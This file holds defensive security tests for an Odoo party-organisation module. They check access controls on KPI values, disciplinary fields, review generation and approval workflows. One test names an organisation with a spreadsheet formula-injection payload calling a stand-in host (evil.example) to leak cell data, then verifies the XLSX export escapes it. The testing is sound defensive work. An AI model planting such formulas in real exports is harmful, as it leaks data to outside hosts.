# Copyright 2026 Party Work Suite contributors
# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
"""Red team: collective reviews, KPI values and statistics, disciplines and
exports (security review H1, L2, M5; QA documents #14, #23), and the
legitimate workflow of a review."""

import base64
import io
from datetime import date

import openpyxl

from odoo import fields
from odoo.exceptions import AccessError, UserError
from odoo.tests import tagged

from odoo.addons.party_org.tests.red_team import RedTeamMixin

from .common import YEAR
from .red_team_common import FORGED_APPROVAL, KpiRedTeamCase


@tagged("post_install", "-at_install")
class TestKpiRedTeam(RedTeamMixin, KpiRedTeamCase):
    def test_values_and_statistics_not_writable(self):
        """KPI values and statistics change only through their computation."""
        value = self.values[:1]
        with self.assertUnchanged(self.values):
            for user in (self.user_office, self.user_secretary, self.user_member):
                with self.assertRaises(AccessError):
                    value.with_user(user).write({"value": 100, "numerator": 9})
                with self.assertRaises(AccessError):
                    value.with_user(user).unlink()
                with self.assertRaises(AccessError):
                    self.env["party.kpi.value"].with_user(user).create(
                        {
                            "kpi_id": self.kpi.id,
                            "organization_id": self.cell_2.id,
                            "date_start": date(YEAR, 1, 1),
                            "date_end": date(YEAR, 12, 31),
                            "value": 100,
                        }
                    )
            with self.assertRaises(AccessError):
                self.kpi.with_user(self.user_secretary).action_compute()
        stats = self.env["party.member.statistics"].with_user(self.user_secretary)
        with self.assertRaises(AccessError):
            stats.browse(self.own.id).write({"member_count": 5})
        self.kpi.with_user(self.user_office).action_compute()

    def test_discipline_office_only(self):
        """L2: members and secretaries learn nothing of disciplines."""
        for user in (self.user_member, self.user_cell):
            with self.assertRaises(AccessError):
                self.review_own.with_user(user).read(["knockout_discipline"])
            with self.assertRaises(AccessError):
                self.env["party.evaluation"].with_user(user).search(
                    [("knockout_discipline", "=", True)]
                )
        with self.assertRaises(AccessError):
            self.own.with_user(self.user_cell).read(["risk_factors"])
        self.review_own.with_user(self.user_office).read(["knockout_discipline"])
        self.own.with_user(self.user_office).read(["risk_factors"])

    def test_generation_checks_year_and_scope(self):
        """QA #23: no reviews of a future year, nor of the committee above."""
        Generate = self.env["party.evaluation.generate"].with_user(self.user_cell)
        this_year = fields.Date.context_today(self.env.user).year
        next_year = this_year + 1
        count = self.env["party.evaluation"].search_count([])
        for org, year, error in (
            (self.cell_2, next_year, UserError),
            (self.committee, YEAR, AccessError),
        ):
            wizard = Generate.create({"organization_id": org.id, "year": year})
            with self.assertRaises(error):
                wizard.action_generate()
        with self.assertRaises(UserError):
            self.env["party.evaluation"].with_user(self.user_cell).create(
                {"member_id": self.no_account.id, "year": next_year}
            )
        self.assertEqual(self.env["party.evaluation"].search_count([]), count)
        Generate.create(
            {"organization_id": self.cell_2.id, "year": this_year}
        ).action_generate()
        self.assertGreater(self.env["party.evaluation"].search_count([]), count)

    def test_public_methods_check_caller(self):
        """Every public method refuses a caller without the group or access."""
        calls = [
            (self.review_own, "action_self_assess"),
            (self.review_colleague, "action_approve"),
            (self.review_approved, "action_correct"),
            (self.org_committee, "action_recompute_grade"),
            (self.values[:1], "action_open_records"),
            (self.kpi, "action_compute"),
        ]
        for record, method in calls:
            with self.assertRaises(AccessError, msg=method):
                getattr(record.with_user(self.user_plain), method)()
        with self.assertRaises(AccessError):
            self.env["party.kpi.value"].with_user(self.user_plain).get_dashboard_data()
        with self.assertRaises(AccessError):
            self.review_approved.with_user(self.user_cell).action_correct()

    def test_statistics_export_escapes_formulas(self):
        """M5: a name starting with = stays text in the XLSX."""
        formula = '=HYPERLINK("https://evil.example/?"&B5,"x")'
        top = self.env["party.organization"].create(
            {
                "name": formula,
                "org_type": "grassroots_committee",
                "company_id": self.company.id,
            }
        )
        cell = self._org("Chi bộ", "cell", top)
        self._official("Đảng viên", cell)
        wizard = (
            self.env["party.statistics.export"]
            .with_user(self.user_office)
            .create({"statistics_date": date(YEAR, 12, 31), "organization_id": top.id})
        )
        wizard.action_export()
        book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(wizard.sudo().file)))
        texts = []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell_ in row:
                    self.assertNotEqual(cell_.data_type, "f", cell_.coordinate)
                    texts.append(str(cell_.value or ""))
        self.assertTrue(any(text.startswith("'=HYPERLINK") for text in texts))

    def test_ancestor_org_review_read_only(self):
        """H1: the committee's collective review is readable, not writable."""
        review = self.org_committee.with_user(self.user_cell)
        self.assertTrue(review.read(["grade"]))
        with (
            self.assertUnchanged(self.org_committee),
            self.assertUnchanged(self.org_committee.line_ids),
        ):
            for vals in ({"self_comment": "x"}, {"knockout": True}, FORGED_APPROVAL):
                with self.assertRaises(AccessError, msg=vals):
                    review.write(vals)
            with self.assertRaises(AccessError):
                review.line_ids[:1].write({"self_score": 1})
            for method in (
                "action_self_assess",
                "action_propose",
                "action_recompute_grade",
            ):
                with self.assertRaises(AccessError, msg=method):
                    getattr(review, method)()
            with self.assertRaises(AccessError):
                review.unlink()
        with self.assertRaises(AccessError):
            self.org_cell_2.with_user(self.user_cell).write({"knockout": True})
        self.org_cell_2.with_user(self.user_cell).action_self_assess()
        self.org_cell_2.with_user(self.user_cell).action_propose()
        with self.assertRaises(UserError):
            self.org_cell_2.with_user(self.user_cell).action_approve()
        self.org_cell_2.with_user(self.user_secretary).action_approve()
        self.assertEqual(self.org_cell_2.state, "approved")

    def test_dashboard_opens_on_own_branch(self):
        """QA #14: a secretary's dashboard opens on their branch, not the committee."""
        data = (
            self.env["party.kpi.value"].with_user(self.user_cell).get_dashboard_data()
        )
        self.assertEqual(data["organization"]["id"], self.cell_2.id)
        self.assertIn(self.committee.id, {o["id"] for o in data["organizations"]})

    def test_legitimate_workflow(self):
        """Member self-assesses, the branch proposes, the level above approves."""
        review = self.review_own
        for line in review.line_ids.with_user(self.user_member):
            line.self_score = line.max_score * 0.8
        review.with_user(self.user_member).action_self_assess()
        for line in review.line_ids.with_user(self.user_cell):
            line.score = line.max_score * 0.75
        review.with_user(self.user_cell).write({"proposal_comment": "Tốt"})
        review.with_user(self.user_cell).action_propose()
        review.with_user(self.user_secretary).write({"approval_comment": "Đồng ý"})
        review.with_user(self.user_secretary).action_approve()
        self.assertEqual(
            (review.state, review.grade, review.approval_user_id),
            ("approved", "good", self.user_secretary),
        )
